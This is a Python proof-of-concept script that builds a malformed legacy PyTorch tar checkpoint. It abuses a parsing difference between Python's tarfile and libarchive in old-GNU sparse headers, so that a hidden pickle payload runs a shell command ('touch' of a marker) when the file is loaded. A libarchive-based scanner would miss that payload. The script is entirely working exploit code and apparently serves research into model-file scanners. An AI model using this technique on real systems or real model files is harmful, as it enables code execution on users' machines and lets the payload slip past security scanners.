"""Legacy torch tar whose 'storages' is an old-GNU sparse member (type 'S') with one sparse entry whose
numbytes field is spelled '+1000' (tarfile's nti: int('+1000', 8) = 512; C readers' octal parse: 0).
tarfile copies the 512 stored bytes (the payload); libarchive yields 512 zero bytes.
usage: python3 tar_oldgnu_sparse.py OUT MARKER [plus|0o|underscore]"""
import sys

def header(name, size, typeflag=b"0", sparse=None):
    b = bytearray(512)
    b[0:len(name)] = name
    b[100:108] = b"0000644\0"
    b[108:116] = b"0000000\0"
    b[116:124] = b"0000000\0"
    b[124:136] = b"%011o\0" % size
    b[136:148] = b"00000000000\0"
    b[148:156] = b" " * 8
    b[156:157] = typeflag
    if sparse is None:
        b[257:263] = b"ustar\0"
        b[263:265] = b"00"
    else:
        b[257:265] = b"ustar  \0"            # old GNU magic
        off, num, real = sparse
        b[386:398] = off
        b[398:410] = num
        b[482] = 0                           # isextended
        b[483:495] = real
    b[148:156] = b"%06o\0 " % sum(b)
    return bytes(b)

def pad(b):
    return b + b"\0" * (-len(b) % 512)

def main(out, marker, kind="plus"):
    num = {"plus": b"+00000001000", "0o": b"0o0000001000", "underscore": b"0_0000001000"}[kind]
    payload = b"cos\nsystem\n(V touch " + marker.encode() + b"\ntR."
    blocks = [header(b"storages", 512, b"S", (b"00000000000\0", num, b"00000001000\0")),
              header(payload, 0)]       # tarfile: the stored sparse data; libarchive (0 stored bytes): a header
    for name, data in ((b"tensors", b"\x80\x02K\x00."), (b"pickle", b"\x80\x02}q\x00.")):
        blocks += [header(name, len(data)), pad(data)]
    blocks.append(b"\0" * 1024)
    open(out, "wb").write(b"".join(blocks))

if __name__ == "__main__":
    main(*sys.argv[1:])
